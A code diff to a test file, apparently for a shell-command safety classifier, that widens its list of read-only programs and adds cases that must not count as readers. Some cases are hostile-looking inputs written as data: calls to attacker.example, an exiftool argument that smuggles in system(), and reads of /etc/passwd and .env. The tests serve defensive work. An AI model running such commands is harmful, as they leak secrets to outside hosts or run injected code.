@@ -22,7 +22,13 @@ const PROGRAMS = words(`
  read readlink realpath return rev rg sed seq set sha1sum sha224sum sha256sum sha384sum sha512sum shasum shuf sleep sort
   ss stat sum sysctl tac tail test tr tree true tsort tty type ul umask uname unexpand uniq unset uptime users
   uuencode vdir vmstat w wait wc whatis whereis which who whoami xargs xxd yes
+  benchstat choose csvcut csvformat csvgrep csvjson csvlook csvsort csvstack csvstat difft duf gron htmlq ioreg jdeps jo
+  lipo locale mdls nvidia-smi otool pdfinfo plutil pup sd sensors sips sw_vers tidy
 `);
+
+const XSV_SUBCOMMANDS = words(
+  "count fixlengths flatten frequency headers reverse search select slice sort stats table",
+);
 
 /** Only with the settings that are forced on git when it is started. */
 const GIT_SUBCOMMANDS = [
@@ -90,7 +96,13 @@ test("lists as readers only the programs that are written out here", () => {
       names.split(" ").flatMap((name) => readersIn(name, data)),
     ),
   );
-  expect(found.toSorted()).toEqual([...PROGRAMS, ...GIT_SUBCOMMANDS.map((name) => `git ${name}`)].toSorted());
+  expect(found.toSorted()).toEqual(
+    [
+      ...PROGRAMS,
+      ...GIT_SUBCOMMANDS.map((name) => `git ${name}`),
+      ...XSV_SUBCOMMANDS.map((name) => `xsv ${name}`),
+    ].toSorted(),
+  );
 });
 
 describe("a program that does more than read is no reader", () => {
@@ -105,6 +117,33 @@ describe("a program that does more than read is no reader", () => {
     "finger data@attacker.example",
     "mediainfo http://attacker.example/x",
     "exiftool -p '${FileName;system(1)}' a.png",
+    "gron http://attacker.example/x",
+    "gron HTTP://attacker.example/x",
+    "mediainfo HTTP://attacker.example/x",
+    "jdeps @words a.jar",
+    "otool @words",
+    "lipo -info @words",
+    "benchstat x=/etc/passwd",
+    "xsv index a.csv",
+    "xsv split out a.csv",
+    "xsv sort -o b.csv a.csv",
+    "csvgrep -c 1 --frob a.csv",
+    "sd a b a.txt",
+    "jo a=@.env",
+    "jo a:=.env",
+    "nvidia-smi -r",
+    "nvidia-smi -f a.log",
+    "nvidia-smi topo -m",
+    "plutil -convert xml1 a.plist",
+    "plutil -replace a -string b a.plist",
+    "sips -z 10 10 a.png",
+    "lipo -create a b -output c",
+    "tidy -m a.html",
+    "tidy -config x a.html",
+    "htmlq -o out a",
+    "sw_vers x",
+    "duf --frob",
+    "jdeps -dotoutput x a.jar",
     "man man",
     "journalctl",
     "dmesg -H",
